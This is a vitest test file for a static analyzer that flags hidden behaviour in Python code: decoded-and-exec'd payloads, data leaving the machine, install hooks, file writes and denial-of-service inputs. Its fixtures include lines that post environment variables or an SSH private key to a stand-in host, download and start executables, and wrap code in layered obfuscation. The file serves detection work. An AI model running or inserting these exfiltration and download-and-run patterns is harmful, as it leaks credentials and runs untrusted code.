import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** The code that a source runs, with the layers that hid it. */
function run(source: string): (string | null)[] {
  return analyzePython(source, { script: true }).codeSinks.map((sink) =>
    sink.layers.length > 0 ? `${sink.layers.join('>')}: ${sink.text}` : sink.text,
  );
}

/** What reaches what, while the source is loaded unless it says otherwise. */
function flows(source: string): string[] {
  return analyzePython(source, { script: true }).flow.flows.map(
    (flow) =>
      `${Object.entries(LABEL)
        .filter(([, bit]) => (flow.labels & bit) !== 0)
        .map(([name]) => name)
        .join('+')} > ${flow.sinkName}${flow.live ? '' : ' (called)'}`,
  );
}

const PAYLOAD = 'import os;print(os.name)';
const codes = Array.from(PAYLOAD, (char) => char.charCodeAt(0));

describe('text that is decoded and run', () => {
  const zipped = deflateSync(Buffer.from(PAYLOAD)).toString('base64');
  test.each([
    ['an alias of a module', `import base64 as b;exec(b.b64decode("${base64(PAYLOAD)}"))`, 'base64'],
    ['a name of a module', `from base64 import b64decode as d\nexec(d("${base64(PAYLOAD)}"))`, 'base64'],
    ['a star import', `from base64 import *\nexec(b64decode("${base64(PAYLOAD)}"))`, 'base64'],
    ['codes', `exec(''.join(map(chr, [${codes.join(', ')}])))`, 'charcode'],
    [
      'codes by arithmetic and a looked-up builtin',
      `exec(''.join(map(getattr(__builtins__, 'c'+'hr'), [${codes.map((code) => `${code * 3}//3`).join(', ')}])))`,
      'charcode',
    ],
    [
      'bytes in a loop',
      `s = ''\nfor c in [${codes.map((code) => code ^ 7).join(',')}]:\n  s += chr(c ^ 7)\nexec(s)`,
      'xor>charcode',
    ],
    [
      'a helper',
      `import zlib, base64\ndef d(s):\n  return zlib.decompress(base64.b64decode(s))\nexec(d("${zipped}"))`,
      'base64>zlib',
    ],
    [
      'a lambda that turns it round',
      `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${Array.from(zipped).toReversed().join('')}'))`,
      'reverse>base64>zlib',
    ],
    ['hex', `exec(bytes.fromhex("${Buffer.from(PAYLOAD).toString('hex')}"))`, 'hex'],
    ['a codec', `import codecs\nexec(codecs.decode("vzcbeg bf;cevag(bf.anzr)", "rot13"))`, 'rot13'],
    [
      'compile',
      `exec(compile(__import__("base64").b64decode("${base64(PAYLOAD)}"), "<s>", "exec"))`,
      'base64',
    ],
    [
      'globals',
      `g = globals()\ng['__builtins__']\nexec(__import__('base64').b64decode("${base64(PAYLOAD)}").decode())`,
      'base64',
    ],
    ['a replaced filling', `exec("${Array.from(PAYLOAD).join('~')}".replace("~", ""))`, 'filler'],
    [
      'a whole number',
      `exec((${BigInt(`0x${Buffer.from(PAYLOAD).toString('hex')}`)}).to_bytes(${PAYLOAD.length}, 'big'))`,
      'number',
    ],
    ['full-width letters', `ｅｘｅｃ(__import__("base64").b64decode("${base64(PAYLOAD)}"))`, 'base64'],
    [
      'a key that goes round',
      `from itertools import cycle\nk = "key"\nexec(''.join(chr(a ^ ord(b)) for a, b in zip([${codes.map((code, index) => code ^ 'key'.charCodeAt(index % 3)).join(',')}], cycle(k))))`,
      'xor>charcode',
    ],
    [
      'a class',
      `import base64\nclass D:\n  def __init__(self, s): self.s = s\n  def go(self): return base64.b64decode(self.s)\nexec(D("${base64(PAYLOAD)}").go())`,
      'base64',
    ],
    [
      'format',
      `exec("{}{}".format(__import__("base64").b64decode("${base64(PAYLOAD)}").decode(), ""))`,
      'base64',
    ],
  ])('%s', (_how, source, layers) => {
    expect(run(source)).toContain(`${layers}: ${PAYLOAD}`);
  });

  test('a docstring hides nothing, and neither does a comment', () => {
    expect(run('"""\n"""\nexec("a = 1") # """')).toEqual(['a = 1']);
  });

  test('a text that evaluates to code is followed', () => {
    expect(run(`eval('exe' + 'c')("a = 1")`)).toContain('a = 1');
  });

  test('a dispatcher that jumps about is walked', () => {
    expect(
      run(
        'state = 3\nout = ""\nwhile True:\n  if state == 3:\n    out += "a="\n    state = 9\n  elif state == 9:\n    out += "1"\n    break\nexec(out)',
      ),
    ).toContain('a=1');
  });
});

describe('data that leaves', () => {
  test.each([
    [
      'the environment',
      'import os, requests\nrequests.post("https://x.example", json=dict(os.environ))',
      'envAll > requests.post',
    ],
    [
      'a name in a lookup',
      'import socket\nsocket.gethostbyname(socket.gethostname() + ".x.example")',
      'host > socket.gethostbyname',
    ],
    [
      'a key file',
      'import os, requests\nwith open(os.path.expanduser("~/.ssh/id_rsa")) as f:\n  requests.post("https://x.example", data=f.read())',
      'credential+file > requests.post',
    ],
    [
      'through a function',
      'import os, requests\ndef send(what):\n  requests.post("https://x.example", data=what)\nsend(str(os.environ))',
      'envAll > requests.post',
    ],
    [
      'in a session',
      'import os, requests\ns = requests.Session()\ns.post("https://x.example", data=os.environ.copy())',
      'envAll > requests.Session().post',
    ],
    [
      'a socket',
      'import os, socket\ns = socket.socket()\ns.connect(("x.example", 4444))\ns.send(str(os.environ).encode())',
      'envAll > socket.socket().send',
    ],
    [
      'in a thread',
      'import os, requests, threading\ndef go():\n  requests.post("https://x.example", data=dict(os.environ))\nthreading.Thread(target=go).start()',
      'envAll > requests.post',
    ],
    [
      'what a command printed',
      'import os, requests\nrequests.post("https://x.example", data=os.popen("whoami").read())',
      'host > requests.post',
    ],
    [
      'only when called',
      'import os, requests\ndef go():\n  requests.post("https://x.example", data=dict(os.environ))',
      'envAll > requests.post (called)',
    ],
  ])('%s', (_what, source, expected) => {
    expect(flows(source)).toContain(expected);
  });

  test('an answer that is run', () => {
    expect(flows('import requests\nexec(requests.get("https://x.example/p").text)')).toContain(
      'network > exec',
    );
  });

  test('a file that is fetched and started', () => {
    expect(
      flows(
        'import os, urllib.request\np = os.path.join(os.getenv("TEMP"), "x.exe")\nurllib.request.urlretrieve("https://x.example/x.exe", p)\nos.startfile(p)',
      ),
    ).toContain('envNamed+network+dropped > os.startfile');
  });
});

describe('what runs when', () => {
  const setup = `from setuptools import setup\nfrom setuptools.command.install import install\nclass P(install):\n  def run(self):\n    __import__('os').system('id')\nsetup(cmdclass={'install': P})`;

  test('a command class of a setup script runs', () => {
    expect(analyzePython(setup, { script: true }).commands).toMatchObject([
      { name: 'os.system', line: 'id', live: true },
    ]);
  });

  test('the main block runs in a program only', () => {
    const source = 'import os\nif __name__ == "__main__":\n  os.system("id")';
    expect(analyzePython(source).commands).toMatchObject([{ live: false }]);
    expect(analyzePython(source, { script: true }).commands).toMatchObject([{ live: true }]);
  });

  test('a program that is written to a file is a layer', () => {
    const { decoded } = analyzePython(
      'open("/tmp/x.py", "w").write("import os; os.system(\'id\')  # dropped")',
    );
    expect(decoded).toMatchObject([{ layers: ['written'], text: expect.stringContaining('os.system') }]);
  });
});

describe('hostile sources', () => {
  test('nesting is a problem that is told', () => {
    expect(analyzePython('('.repeat(100_000)).problem).toBe('nesting');
  });

  test('one broken statement hides no other', () => {
    expect(run('x = = 1\nexec("a = 1")\ndef f(:\n  pass\n')).toContain('a = 1');
  });

  test('Python 2 is read', () => {
    const facts = analyzePython('print "x"\ntry:\n  exec "a = 1"\nexcept Exception, e:\n  print e');
    expect(facts).toMatchObject({ problem: null, codeSinks: [{ text: 'a = 1' }] });
  });

  test('what stands behind a statement that costs all steps is read', () => {
    const loops = Array.from({ length: 9 }, (_, at) => `${' '.repeat(at)}for i${at} in range(1000):`).join(
      '\n',
    );
    const source = `import os\n${loops}\n${' '.repeat(9)}x = chr(i0)\nos.system('id > /dev/null')\n`;
    const { commands, complete } = analyzePython(source);
    expect({ commands, complete }).toMatchObject({
      commands: [{ line: 'id > /dev/null', live: true }],
      complete: false,
    });
  });

  test.each([
    ['powers', 'x = 9 ** 9 ** 9 ** 9'],
    ['repeats', 'x = "a" * 10 ** 12'],
    ['doubling', `x = "a"\n${'x = x + x\n'.repeat(200)}`],
    ['doubling lists', `x = [1]\n${'x = x + x\n'.repeat(200)}`],
    ['recursion', 'def f(n): return f(n - 1) + f(n - 2)\nf(10 ** 6)'],
    ['loops', 'while True:\n  x = 1\n'],
    ['counting', 'i = 0\nwhile True:\n  i += 1'],
    ['ranges', 'for a in range(10**5):\n  for b in range(10**5):\n    for c in range(10**5):\n      x = a'],
    ['a long chain', `x = ${'"a" + '.repeat(20_000)}"b"`],
    [
      'a list that is added to itself',
      'def f():\n  x = []\n  x += [1]\n  for _ in range(3):\n    x += x\nx = [1, 2]\nx += x\nx.extend(x)',
    ],
    ['self-inclusion', 'x = []\nx.append(x)\nstr(x)\nprint(x)\nrequests = x'],
    ['an eval of itself', 's = "eval(s)"\neval(s)'],
    [
      'names like members',
      '__proto__ = 1\nconstructor = 2\nx = {"__proto__": 1}["toString"]\n__proto__.constructor()',
    ],
  ])('%s end', (_what, source) => {
    expect(analyzePython(source).problem).toBeNull();
  });
});

describe('what evaluation may cost', () => {
  test('a long table of constants is evaluated whole', () => {
    const table = `${'-'.repeat(20)}1,`.repeat(80_000);

    const facts = analyzePython(`t = [${table}]\nimport os\nos.system('echo end')\n`);

    expect(facts.complete).toBe(true);
    expect(facts.commands.map(({ line }) => line)).toEqual(['echo end']);
  });

  test('functions that call each other without end are each read, and nothing is left out', () => {
    const functions = Array.from({ length: 60 }, (_, i) => {
      const calls = Array.from(
        { length: 6 },
        (__, j) => `  f${(i * 7 + j * 11 + 1) % 60}([${i}, x], y)\n`,
      ).join('');
      return `def f${i}(x, y):\n  for n in range(500):\n    x.append(n)\n${calls}`;
    }).join('');

    const facts = analyzePython(`import os\n${functions}def last(z):\n  os.system('echo last')\n`);

    expect(facts.complete).toBe(true);
    expect(facts.commands.map(({ line }) => line)).toEqual(['echo last']);
  });

  test.each([
    [
      'a worklist that fills itself',
      'import os\ntodo = ["a"]\nwhile todo:\n  at = todo.pop()\n  for name in os.listdir(at):\n    if os.path.isdir(name):\n      continue\n    todo.append(at + name)\n',
    ],
    [
      'a loop that only an exception leaves, in one that goes on while it found something',
      'import own\nrules = [1]\nfound = True\nwhile found:\n  found = False\n  for rule in rules:\n    try:\n      while 1:\n        own.step()\n        found = True\n    except ValueError:\n      pass\n',
    ],
    ['a server', 'import own\nn = 0\nwhile True:\n  n += 1\n  if own.poll():\n    own.send(n)\n'],
  ])('%s spends no budget', (_what, source) => {
    expect(analyzePython(`${source}os.system('echo end')\n`, { script: true }).complete).toBe(true);
  });

  test('a text that a loop builds past a branch which is not known is built whole', () => {
    const text = `echo ${'a'.repeat(2000)}`;
    const masked = Array.from(text, (char) => char.charCodeAt(0) ^ 7);

    const facts = analyzePython(
      `import os\ncodes = [${masked.join(',')}]\nat = 0\nout = ''\nwhile at < len(codes):\n  if os.path.exists('/x'):\n    seen = at\n  out += chr(codes[at] ^ 7)\n  at += 1\nos.system(out)\n`,
    );

    expect(facts.commands.map(({ line }) => line)).toEqual([text]);
  });

  test('parts of a bytearray are replaced in place', () => {
    const facts = analyzePython(
      `import os\na = bytearray(b'....xxxx')\na[0:4] = b'echo'\na[4::2] = b'  '\na[5::2] = b'hi'\na[-1:] = b'i!'\nos.system(bytes(a).decode())\n`,
    );

    expect(facts.commands.map(({ line }) => line)).toEqual(['echo h i!']);
  });

  test('a loop of a function that nobody calls is followed while it is cheap', () => {
    const facts = analyzePython(
      `import os\ndef run():\n  text = ''\n  for n in [101, 99, 104, 111, 32, 104, 105]:\n    text += chr(n)\n  os.system(text)\n`,
    );

    expect(facts.commands.map(({ line }) => line)).toEqual(['echo hi']);
  });
});

test('a function that is only wrapped, or handed to who knows what, is not run by loading', () => {
  const facts = analyzePython(`
import functools, os
def mark(func):
    @functools.wraps(func)
    def inner(x):
        return func(x)
    return inner
@mark
def a(x):
    os.system('echo a')
def b(x):
    os.system('echo b')
unknown(b)
def c(x):
    os.system('echo c')
c(1)
`);

  expect(facts.commands.map(({ line, live }) => [line, live])).toEqual([
    ['echo b', false],
    ['echo c', true],
    ['echo a', false],
  ]);
});

describe('what happens to files', () => {
  const actions = (source: string): string[] =>
    analyzePython(source, { script: true }).fileActions.map(
      ({ operation, paths }) => `${operation} ${paths.join(' ')}`,
    );

  test.each([
    ['the mode of open', "open('a.txt', 'w').write('x')", ['write a.txt', 'write a.txt']],
    ['the home folder', "import os\nopen(os.path.expanduser('~/.bashrc'), 'a')", ['append ~/.bashrc']],
    [
      'a folder of Windows',
      "import os\nopen(os.environ['APPDATA'] + r'\\own\\a.exe', 'wb')",
      ['write ~/AppData/Roaming/own/a.exe'],
    ],
    [
      'the temporary folder',
      "import tempfile, os\nopen(os.path.join(tempfile.gettempdir(), 'a'), 'wb')",
      ['write /tmp/a'],
    ],
    ['a path object', "from pathlib import Path\n(Path.home() / '.own').write_text('x')", ['write ~/.own']],
    ['a copy', "import shutil\nshutil.copy('a', 'b')", ['copy b']],
  ])('%s', (_name, source, expected) => {
    expect(actions(source)).toEqual(expected);
  });

  test('a program that is fetched is told where it is started', () => {
    expect(
      flows("import os, requests\nopen('s.exe', 'wb').write(requests.get(u).content)\nos.system('s.exe')"),
    ).toContain('network+dropped > os.system');
  });
});

describe('calls from file to file', () => {
  test('names of other files and what a function of this one runs', () => {
    const { localUses, exportRuns } = analyzePython(
      'from .other import go\ndef start():\n    return inner()\ndef inner():\n    return go()\nstart()\n',
    );
    expect(localUses.map(({ name, live }) => `${name} ${live}`)).toEqual(['.other.go true']);
    expect(exportRuns?.runs.get('start')).toHaveLength(2);
    expect(exportRuns?.runs.get('inner')).toHaveLength(1);
  });
});
